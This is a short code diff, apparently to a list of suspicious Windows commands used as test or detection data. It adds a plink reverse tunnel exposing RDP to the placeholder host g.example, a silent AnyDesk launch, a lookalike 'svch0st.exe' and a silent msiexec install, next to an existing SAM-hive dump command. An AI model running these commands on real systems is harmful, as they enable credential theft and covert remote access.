@@ -20,6 +20,10 @@ const COMMANDS = [
   'reg save HKLM\\SAM C:\\s.hiv',
   'C:\\Windows\\Temp\\svchost.exe -k',
   'python C:\\Temp\\a.py',
+  'C:\\Tools\\plink.exe -N -R 3389:127.0.0.1:3389 u@g.example',
+  'C:\\Tools\\AnyDesk.exe --silent',
+  'C:\\Tools\\svch0st.exe -k',
+  'msiexec /i C:\\Install\\a.msi /qn',
 ] as const;
 
 const STATEMENTS = [
